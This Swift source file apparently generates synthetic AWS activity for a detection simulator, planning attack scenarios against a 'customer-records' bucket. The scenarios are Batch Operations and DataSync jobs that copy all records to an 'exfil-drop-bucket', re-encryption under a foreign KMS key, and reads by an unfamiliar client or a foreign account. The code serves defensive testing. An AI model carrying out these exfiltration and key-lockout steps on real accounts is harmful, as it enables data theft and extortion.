/// The attacks that move or lock data with AWS's own machinery (Batch Operations, DataSync, KMS), and the
/// callers that give themselves away by who or what they are (a new client, a foreign account).
extension AttackActivity {
    /// The role S3 Batch Operations assumes for the attacker's job.
    static let batchRoleName = "s3-batch-operations"
    /// The manifest the attacker uploads: every customer record, one `bucket,key` line each.
    static let batchManifestKey = "batch-manifests/customers-all.csv"
    /// The role DataSync assumes to read and write the buckets.
    static let dataSyncRoleName = "datasync-s3-access"

    /// Plans one of the transfer and caller scenarios.
    func transferAttack(_ rng: inout SimulationRandom, day: inout DayPlan) -> PlannedAttack {
        let cli = Population.attackerCLI, records = Catalog.customerRecords, account = population.account
        switch scenario {
        case .batchOperationsJob:
            let jane = Population.jane
            let control = "\"Host\":\"\(account).s3-control.us-east-1.amazonaws.com\",\"x-amz-account-id\":\"\(account)\""
            let jobId = FindingDocuments.uuid(&rng)
            var manifest = call(.putObject, by: jane, from: cli, bucket: records, key: AttackActivity.batchManifestKey)
            manifest.bytesIn = Int64(rng.int(in: 150_000...400_000))
            let request = "\(control),\"CreateJobRequest\":{\"xmlns\":\"http://awss3control.amazonaws.com/doc/2018-08-20/\",\"ConfirmationRequired\":\"false\","
                + "\"Operation\":{\"S3PutObjectCopy\":{\"TargetResource\":\"arn:aws:s3:::exfil-drop-bucket\",\"CannedAccessControlList\":\"bucket-owner-full-control\",\"MetadataDirective\":\"COPY\"}},"
                + "\"Report\":{\"Enabled\":\"false\"},\"ClientRequestToken\":\"\(FindingDocuments.uuid(&rng))\","
                + "\"Manifest\":{\"Spec\":{\"Format\":\"S3BatchOperations_CSV_20180820\",\"Fields\":{\"member\":[\"Bucket\",\"Key\"]}},"
                + "\"Location\":{\"ObjectArn\":\"arn:aws:s3:::customer-records/\(AttackActivity.batchManifestKey)\",\"ETag\":\"\(rng.string(32, from: lowerHex))\"}},"
                + "\"Priority\":\"10\",\"RoleArn\":\"arn:aws:iam::\(account):role/\(AttackActivity.batchRoleName)\"}"
            var create = call(.createJob, by: jane, from: cli, parameters: request)
            create.response = "{\"CreateJobResult\":{\"JobId\":\"\(jobId)\"}}"
            var actions = [call(.listObjects, by: jane, from: cli, bucket: records, key: "customers/"), manifest, create]
            for _ in 0..<3 { actions.append(call(.describeJob, by: jane, from: cli, parameters: "\(control),\"id\":\"\(jobId)\"")) }
            return PlannedAttack(actions: actions, start: 3 * 3600 + 20 * 60, minutes: 12)

        case .dataSyncTask:
            let jane = Population.jane
            let prefix = "arn:aws:datasync:us-east-1:\(account)"
            let source = "\(prefix):location/loc-\(rng.string(17, from: lowerHex))"
            let destination = "\(prefix):location/loc-\(rng.string(17, from: lowerHex))"
            let task = "\(prefix):task/task-\(rng.string(17, from: lowerHex))"
            let role = "\"S3Config\":{\"BucketAccessRoleArn\":\"arn:aws:iam::\(account):role/\(AttackActivity.dataSyncRoleName)\"}"
            var from = call(.createLocationS3, by: jane, from: cli,
                            parameters: "\"S3BucketArn\":\"arn:aws:s3:::customer-records\",\"S3StorageClass\":\"STANDARD\",\(role),\"Subdirectory\":\"/\"")
            from.response = "{\"LocationArn\":\"\(source)\"}"
            var to = call(.createLocationS3, by: jane, from: cli,
                          parameters: "\"S3BucketArn\":\"arn:aws:s3:::exfil-drop-bucket\",\"S3StorageClass\":\"STANDARD\",\(role),\"Subdirectory\":\"/customer-records\"")
            to.response = "{\"LocationArn\":\"\(destination)\"}"
            var create = call(.createTask, by: jane, from: cli, parameters: "\"SourceLocationArn\":\"\(source)\",\"DestinationLocationArn\":\"\(destination)\","
                + "\"Name\":\"records-offsite-sync\",\"Options\":{\"VerifyMode\":\"ONLY_FILES_TRANSFERRED\",\"OverwriteMode\":\"ALWAYS\",\"TransferMode\":\"ALL\"}")
            create.response = "{\"TaskArn\":\"\(task)\"}"
            var start = call(.startTaskExecution, by: jane, from: cli, parameters: "\"TaskArn\":\"\(task)\"")
            start.response = "{\"TaskExecutionArn\":\"\(task)/execution/exec-\(rng.string(17, from: lowerHex))\"}"
            return PlannedAttack(actions: [call(.listObjects, by: jane, from: cli, bucket: records), from, to, create, start],
                                 start: 3 * 3600 + 30 * 60, minutes: 15)

        case .foreignKMSKey:
            let jane = Population.jane, key = Catalog.foreignKMSKeyArn
            let xmlns = "\"xmlns\":\"http://s3.amazonaws.com/doc/2006-03-01/\""
            var actions = [call(.putBucketEncryption, by: jane, from: cli, bucket: records,
                                parameters: "\"encryption\":\"\",\"ServerSideEncryptionConfiguration\":{\(xmlns),\"Rule\":{\"ApplyServerSideEncryptionByDefault\":{\"SSEAlgorithm\":\"aws:kms\",\"KMSMasterKeyID\":\"\(key)\"},\"BucketKeyEnabled\":true}}")]
            let parameters = "\"x-amz-server-side-encryption\":\"aws:kms\",\"x-amz-server-side-encryption-aws-kms-key-id\":\"\(key)\""
            for index in 0..<objects {
                let objectKey = catalog.key(bucket: records, index: index * 13)
                var copy = call(.copyObject, by: jane, from: cli, bucket: records, key: objectKey, parameters: parameters,
                                bytesOut: Int64(rng.int(in: 228...262)))
                copy.sourceBucket = Int8(records); copy.sourceKey = objectKey; copy.sseKMS = true
                actions.append(copy)
            }
            return PlannedAttack(actions: actions, start: 3 * 3600 + 40 * 60, minutes: 25)

        case .newUserAgent:
            var actions: [SimulatedEvent] = []
            for index in 0..<objects { actions.append(read(records, 7000 + index * 3, by: Population.raj, from: Population.rajCurl)) }
            return PlannedAttack(actions: actions, start: 21 * 3600 + 40 * 60, minutes: 19)

        case .foreignAccountCaller:
            let start: Int64 = 11 * 3600 + 30 * 60
            let session = day.register(.roleSession(account: Catalog.vendorAccount, role: RoleDefinition(name: "vendor-etl", roleId: "AROA3XK7QPNV4VNDRETL7"),
                                                    sessionName: "etl-\(CivilFields(day.dayStart).compactDate)", accessKeyId: "ASIA" + rng.string(16, from: keyIdAlphabet),
                                                    created: day.dayStart + start - Int64(rng.int(in: 30...240))))
            var actions = [call(.listObjects, by: session, from: Population.vendorETL, bucket: records, key: "customers/")]
            for index in 0..<objects { actions.append(read(records, 9000 + index * 5, by: session, from: Population.vendorETL)) }
            return PlannedAttack(actions: actions, start: start, minutes: 25)

        default:
            return PlannedAttack(actions: [], start: 0, minutes: 0)
        }
    }
}
